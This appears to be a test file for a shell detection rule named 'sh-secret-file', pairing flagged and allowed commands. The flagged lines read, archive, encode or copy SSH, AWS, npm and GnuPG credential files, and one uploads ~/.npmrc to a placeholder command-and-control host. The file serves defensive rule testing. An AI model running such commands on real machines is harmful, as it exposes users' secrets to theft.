# ruleid: sh-secret-file
cat ~/.ssh/id_rsa
# ruleid: sh-secret-file
tar czf /tmp/k.tgz $HOME/.aws $HOME/.ssh/
# ruleid: sh-secret-file
curl -F f=@$HOME/.npmrc https://c2.invalid
# ruleid: sh-secret-file
for f in ~/.aws/credentials ~/.netrc; do x; done
# ruleid: sh-secret-file
base64 < ~/.npmrc
# ruleid: sh-secret-file
cp -r ~/.gnupg /tmp/x
# ok: sh-secret-file
echo registry=https://r.invalid > ~/.npmrc
# ok: sh-secret-file
chmod 600 ~/.ssh/id_rsa
# ok: sh-secret-file
ssh -i ~/.ssh/id_rsa host
# ok: sh-secret-file
mkdir -p ~/.ssh
# ok: sh-secret-file
ssh-keyscan host.invalid >> ~/.ssh/known_hosts
# ok: sh-secret-file
cat > ~/.npmrc <<E
# ok: sh-secret-file
rm -f ~/.npmrc
